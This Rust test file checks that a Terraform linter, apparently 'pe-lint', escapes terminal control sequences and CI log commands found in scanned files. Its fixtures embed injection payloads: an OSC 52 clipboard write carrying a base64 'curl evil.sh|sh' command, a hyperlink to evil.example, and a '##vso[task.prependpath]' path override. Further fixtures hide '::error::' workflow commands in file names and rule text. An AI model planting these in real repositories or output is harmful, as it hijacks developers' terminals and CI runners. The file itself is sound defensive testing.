//! Issues 3 and 4: nothing from the tree reaches a terminal or a CI log raw. Control characters,
//! bidi controls and invisible characters arrive as visible escapes (`\x1b`, `\u{202e}`), and
//! no output line can be read by a GitHub, Azure or GitLab runner as a log command.

use super::common::*;
use pe_lint::internals::escape::is_log_command;

/// A raw character the terminal or a log viewer would act on. Our own colour codes are
/// removed first (with colour, `strip_colour` is applied by the caller).
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| c != '\n' && pe_lint::internals::escape::is_unsafe(c))
        .collect()
}

fn command_lines(text: &str) -> Vec<&str> {
    text.lines().filter(|l| is_log_command(l)).collect()
}

/// Human output (the default format) of `dir`, with the checks every case shares: no raw
/// control character, no log-command line, in stdout and stderr.
fn human(dir: &std::path::Path) -> Run {
    // Suppressed findings listed too: their reasons come from the tree.
    let r = pe_lint(&[&dir, &"--show-suppressed"], &[]);
    for (what, text) in [("stdout", &r.stdout), ("stderr", &r.stderr)] {
        assert_eq!(raw_controls(text), Vec::<char>::new(), "{what}:\n{text}");
        assert_eq!(command_lines(text), Vec::<&str>::new(), "{what}:\n{text}");
    }
    r
}

const FAKE_CLEAN: &str =
    "\x1b[2J\x1b[H\npe-lint: no failures, 0 unresolved\n\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07";

/// A comment in a snippet clears the screen, prints a fake clean summary and puts a shell
/// command on the clipboard (OSC 52). Holds: the comment is shown escaped on its line, the
/// real summary still reports the failures, exit 1.
#[test]
fn snippet_comment_cannot_clear_the_screen_or_set_the_clipboard() {
    let tf = format!(
        "resource \"aws_kms_key\" \"k\" {{\n  # {}\n  enable_key_rotation = false\n}}\n",
        FAKE_CLEAN.replace('\n', " ")
    );
    let dir = tree(&[("main.tf", tf.as_bytes())]);
    let r = human(dir.path());
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(
        r.stdout.contains(
            " 2 │   # \\x1b[2J\\x1b[H pe-lint: no failures, 0 unresolved \\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07"
        ),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("pe-lint: 2 failing"), "{}", r.stdout);
    assert!(!r.stdout.contains("\npe-lint: no failures"), "{}", r.stdout);
}

/// A suppression reason carries an OSC 8 hyperlink, a bidi override, a CR overwrite and a
/// window-title sequence. Holds: the reason is made one line with every control, bidi and
/// zero-width character a space (`suppress::clean_reason`), so none reaches the terminal.
#[test]
fn suppression_reason_is_shown_escaped() {
    let reason = "\x1b]8;;https://evil.example\x1b\\\\ok\x1b]8;;\x1b\\\\ \u{202e}txet\u{2066} \x1b]0;title\x07 \x08\x08pe-lint: no failures";
    let tf = format!(
        "resource \"aws_kms_key\" \"k\" {{\n  enable_key_rotation = false # pe-lint:ignore PE001 reason=\"{reason}\"\n}}\n"
    );
    let dir = tree(&[("main.tf", tf.as_bytes())]);
    let r = human(dir.path());
    let unwrapped = r.stdout.replace("\n  │ ", " ");
    assert!(
        unwrapped.contains("(suppressed: ]8;;https:// evil.example \\ok ]8;; \\  txet   ]0;title    pe-lint: no failures)"),
        "{unwrapped}"
    );
    for c in ['\x1b', '\x07', '\x08', '\u{202e}', '\u{2066}'] {
        assert!(
            !r.stdout.contains(c),
            "{c:?} reached the terminal: {}",
            r.stdout
        );
    }
}

/// File names carry ESC sequences, a newline with a workflow command after it, a window title
/// and a bidi override, in `.tf` and `.tf.json` names. Holds: the snippet header names the file
/// escaped, on one line, and the findings are still reported (exit 1).
#[test]
fn file_names_in_snippet_headers_are_escaped() {
    let json = br#"{"resource": {"aws_kms_key": {"j": {"enable_key_rotation": false}}}}"#;
    let dir = tree(&[
        ("a\x1b[2Jb\n::error::pwned.tf", OK_TF),
        ("c\u{202e}fj.\x1b]0;t\x07.tf.json", json),
    ]);
    let r = human(dir.path());
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(
        r.stdout.contains("/a\\x1b[2Jb\\n::error::pwned.tf:2:3]"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("c\\u{202e}fj.\\x1b]0;t\\x07.tf.json:"),
        "{}",
        r.stdout
    );
}

/// `for_each` keys with CR, NEL, line separators and `##[group]`/`##vso[` in them end up in
/// resource addresses. Holds: no line begins with a command, `##[` is defanged wherever it is.
#[test]
fn for_each_keys_cannot_start_a_log_command() {
    let tf = "resource \"aws_kms_key\" \"k\" {\n  for_each = toset([\"a\\r::error::x\", \"b\u{85}::notice::y\", \"c\u{2028}::add-mask::z\", \"##[group]g\", \"##vso[task.prependpath]/tmp/evil\"])\n  enable_key_rotation = false\n}\n";
    let dir = tree(&[("main.tf", tf.as_bytes())]);
    let r = human(dir.path());
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(r.stdout.contains("#\\#[group]g"), "{}", r.stdout);
    assert!(
        r.stdout.contains("#\\#vso[task.prependpath]"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("b\\u{85}::notice::y"), "{}", r.stdout);
}

/// A custom rule's remediation is long enough for miette to wrap, with `::error::` exactly
/// where a continuation line (indented with spaces only) begins: a word longer than the line
/// is broken at the width, so the attacker picks the wrap point to the byte. Holds: the wrapped
/// line gets a non-space gutter, so no line begins with the command.
#[test]
fn wrapped_help_keeps_a_gutter() {
    let mut guttered = 0;
    for pad in 85..95 {
        let fix = format!("{}::error::pwned z z z", "x".repeat(pad));
        let rule = format!(
            "rule \"ORG1\" {{\n  name = \"wrap\"\n  severity = \"error\"\n  summary = \"s\"\n  requirement = \"r\"\n  remediation = \"{fix}\"\n  check \"aws_kms_key\" {{\n    assert = false\n  }}\n}}\n"
        );
        let dir = tree(&[("main.tf", OK_TF), ("rules/org1.hcl", rule.as_bytes())]);
        let rules = dir.path().join("rules");
        let r = pe_lint(&[&dir.path().join("main.tf"), &"--rules", &rules], &[]);
        assert_eq!(command_lines(&r.stdout), Vec::<&str>::new(), "{}", r.stdout);
        guttered += r
            .stdout
            .lines()
            .filter(|l| l.trim_start().starts_with("│ ::error::pwned"))
            .count();
    }
    assert!(guttered > 0, "no padding put the command at a wrap point");
}

/// `pe-lint test-rules` prints rule names, example origins, addresses and messages from the
/// rule folder. Holds: escaped, and no line is a log command.
#[test]
fn test_rules_output_is_escaped() {
    let rule = "rule \"ORG1\" {\n  name = \"n\\u001b[2J\\n::error::name\"\n  severity = \"error\"\n  summary = \"s\"\n  requirement = \"r\"\n  remediation = \"f\"\n  check \"aws_kms_key\" {\n    assert = false\n  }\n  example \"pass\" {\n    code = \"resource \\\"aws_kms_key\\\" \\\"k\\u001b]52;c;eA==\\u0007\\\" {}\"\n  }\n}\n";
    let dir = tree(&[("org1\x1b[8m\n::error::file.hcl", rule.as_bytes())]);
    let r = test_rules(dir.path());
    assert_eq!(r.code, 2, "{}", r.stdout);
    for (what, text) in [("stdout", &r.stdout), ("stderr", &r.stderr)] {
        assert_eq!(raw_controls(text), Vec::<char>::new(), "{what}:\n{text}");
        assert_eq!(command_lines(text), Vec::<&str>::new(), "{what}:\n{text}");
    }
    assert!(r.stdout.contains("\\x1b"), "{}", r.stdout);
}

/// A broken custom rule's diagnostic goes to stderr under `--list-rules`, quoting the file
/// name and the bad id. Holds: escaped, no command line on stderr.
#[test]
fn stderr_diagnostics_are_escaped() {
    let rule = "rule \"\\u001b]0;t\\u0007\\n::error::id\" {\n  name = \"x\"\n}\n";
    let dir = tree(&[("bad\u{202e}\n::warning::f.hcl", rule.as_bytes())]);
    let r = pe_lint(&[&"--list-rules", &"--rules", &dir.path()], &[]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert_eq!(raw_controls(&r.stderr), Vec::<char>::new(), "{}", r.stderr);
    assert_eq!(command_lines(&r.stderr), Vec::<&str>::new(), "{}", r.stderr);
    assert!(
        r.stderr.contains("bad\\u{202e}\\n::warning::f.hcl"),
        "{}",
        r.stderr
    );
}

/// A custom rule's metadata (summary, requirement, description, remediation) carries a window
/// title, a bidi override and a newline followed by `::error::`, shown by `--list-rules` and
/// `--explain`. Holds: escaped on stdout, no line a runner would read as a command.
#[test]
fn rule_listing_and_documentation_are_escaped() {
    let rule = "rule \"ORG900\" {\n  name = \"n\"\n  severity = \"error\"\n  summary = \"s\\u001b]0;t\\u0007\"\n  requirement = \"r\\u202e\\n::error::listed\"\n  description = \"d\\n::error::explained \\u001b[2J ##[group]x\"\n  remediation = \"f\"\n  check \"aws_kms_key\" {\n    assert = true\n    message = \"m\"\n  }\n}\n";
    let dir = tree(&[("ORG900.hcl", rule.as_bytes())]);
    for args in [
        vec!["--list-rules", "--rules"],
        vec!["--explain", "ORG900", "--rules"],
    ] {
        let mut all: Vec<&dyn AsRef<std::ffi::OsStr>> = args
            .iter()
            .map(|a| a as &dyn AsRef<std::ffi::OsStr>)
            .collect();
        let p = dir.path();
        all.push(&p);
        let r = pe_lint(&all, &[]);
        assert_eq!(r.code, 0, "{args:?}: {}{}", r.stdout, r.stderr);
        assert!(r.stdout.contains("ORG900"), "{}", r.stdout);
        assert_eq!(raw_controls(&r.stdout), Vec::<char>::new(), "{}", r.stdout);
        assert_eq!(command_lines(&r.stdout), Vec::<&str>::new(), "{}", r.stdout);
        assert!(!r.stdout.contains("##[group]"), "{}", r.stdout);
    }
}

/// `pe-lint test-rules DIR` (it takes no `--jobs`, which `pe_lint` adds).
fn test_rules(dir: &std::path::Path) -> Run {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pe-lint"))
        .arg("test-rules")
        .arg(dir)
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        cpu: std::time::Duration::ZERO,
        max_rss_kb: 0,
    }
}

// ---- our own attacks -------------------------------------------------------------------------

/// A tag key hides the rest of the line (ESC[8m, conceal) and a C1 CSI (U+009B) clears the
/// screen, in a description shown in the snippet. Holds: both escaped.
#[test]
fn conceal_and_single_byte_csi_are_escaped() {
    let tf = "resource \"aws_kms_key\" \"k\" {\n  tags = { \"\x1b[8mhidden\" = \"\u{9b}2J\" }\n  enable_key_rotation = false\n}\n";
    let dir = tree(&[("main.tf", tf.as_bytes())]);
    let r = human(dir.path());
    assert!(
        r.stdout.contains("\"\\x1b[8mhidden\" = \"\\u{9b}2J\""),
        "{}",
        r.stdout
    );
}

/// A zero-width space and a BOM inside the rule id of a suppression make it look like PE001
/// while it suppresses nothing. Holds: the finding stays failing (exit 1) and the comment shown
/// in the snippet reveals the invisible characters.
#[test]
fn invisible_characters_in_suppression_ids_are_revealed() {
    let tf = "resource \"aws_kms_key\" \"k\" {\n  enable_key_rotation = false # pe-lint:ignore PE\u{200b}001\u{feff} reason=\"x\"\n}\n";
    let dir = tree(&[("main.tf", tf.as_bytes())]);
    let r = human(dir.path());
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(r.stdout.contains("PE\\u{200b}001\\u{feff}"), "{}", r.stdout);
}

/// An ideographic space (U+3000: not a control, but .NET's TrimStart removes it) before
/// `::error::` at the wrap point of a long custom-rule remediation. Holds: the wrapped line gets
/// the gutter even though it begins with that space.
#[test]
fn unicode_white_space_before_a_command_at_a_wrap_point() {
    let mut guttered = 0;
    for pad in 86..94 {
        let fix = format!("{}\u{3000}::error::pwned", "x".repeat(pad));
        let rule = format!(
            "rule \"ORG1\" {{\n  name = \"wrap\"\n  severity = \"error\"\n  summary = \"s\"\n  requirement = \"r\"\n  remediation = \"{fix}\"\n  check \"aws_kms_key\" {{\n    assert = false\n  }}\n}}\n"
        );
        let dir = tree(&[("main.tf", OK_TF), ("rules/org1.hcl", rule.as_bytes())]);
        let rules = dir.path().join("rules");
        let r = pe_lint(&[&dir.path().join("main.tf"), &"--rules", &rules], &[]);
        for l in r.stdout.lines() {
            let t = l.trim_start_matches(char::is_whitespace);
            assert!(!t.starts_with("::"), "{l}\n{}", r.stdout);
        }
        guttered += r
            .stdout
            .lines()
            .filter(|l| l.contains("│ ::error::pwned"))
            .count();
    }
    assert!(guttered > 0, "no padding put the command at a wrap point");
}

/// Windows line endings in an ordinary file are not shown as `\r` (miette treats CRLF as a line
/// break), but a lone CR that would overwrite the line is (HCL rejects it: a parse error whose
/// snippet shows it).
#[test]
fn crlf_is_a_line_break_and_a_lone_cr_is_escaped() {
    let crlf = b"resource \"aws_kms_key\" \"k\" {\r\n  enable_key_rotation = false\r\n}\r\n";
    let cr = b"locals {\r\n  x = 1 # fine\rpe-lint: no failures\r\n}\r\n";
    let dir = tree(&[("crlf.tf", crlf), ("cr.tf", cr)]);
    let r = human(dir.path());
    assert_eq!(r.code, 2, "{}", r.stdout);
    assert!(
        r.stdout
            .contains("crlf.tf:2:3]\n 1 │ resource \"aws_kms_key\" \"k\" {\n"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("# fine\\rpe-lint: no failures\n"),
        "{}",
        r.stdout
    );
}

/// Escapes before the labelled span on its line must not move the column the header shows
/// (it counts the file's bytes, as the JSON report does) nor the underline off the span.
#[test]
fn escapes_do_not_move_the_header_column() {
    let tf = "resource \"aws_kms_key\" \"\x1b\x1b\x1b\" { enable_key_rotation = false }\n";
    let dir = tree(&[("main.tf", tf.as_bytes())]);
    let r = human(dir.path());
    // `enable_key_rotation` starts at byte 31 of the line: column 32 in the file.
    assert!(r.stdout.contains("main.tf:1:32]"), "{}", r.stdout);
    let shown =
        " 1 │ resource \"aws_kms_key\" \"\\x1b\\x1b\\x1b\" { enable_key_rotation = false }\n";
    // The first snippet is PE001's (findings are grouped by rule), labelled on the attribute.
    let at = r
        .stdout
        .find(shown)
        .unwrap_or_else(|| panic!("{}", r.stdout))
        + shown.len();
    let underline = r.stdout[at..].lines().next().unwrap();
    let gutter = " 1 │ ".chars().count();
    let label = underline
        .chars()
        .skip(gutter)
        .position(|c| c != ' ')
        .unwrap();
    // Under `e` of `enable_key_rotation`, in the escaped line (each ESC shows as 4 chars).
    assert_eq!(label, 31 + 3 * 3, "{underline:?} in\n{}", r.stdout);
}
